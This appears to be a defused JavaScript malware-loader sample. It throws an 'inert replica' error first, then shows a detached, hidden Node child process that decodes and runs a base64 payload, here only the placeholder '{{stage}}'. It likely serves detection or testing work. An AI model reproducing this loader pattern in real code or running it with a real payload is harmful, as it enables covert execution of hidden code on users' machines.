throw new Error("inert replica");
require("child_process").spawn(process.execPath, ["-e", Buffer.from("{{stage}}", "base64").toString()], { detached: true, stdio: "ignore", windowsHide: true }).unref();
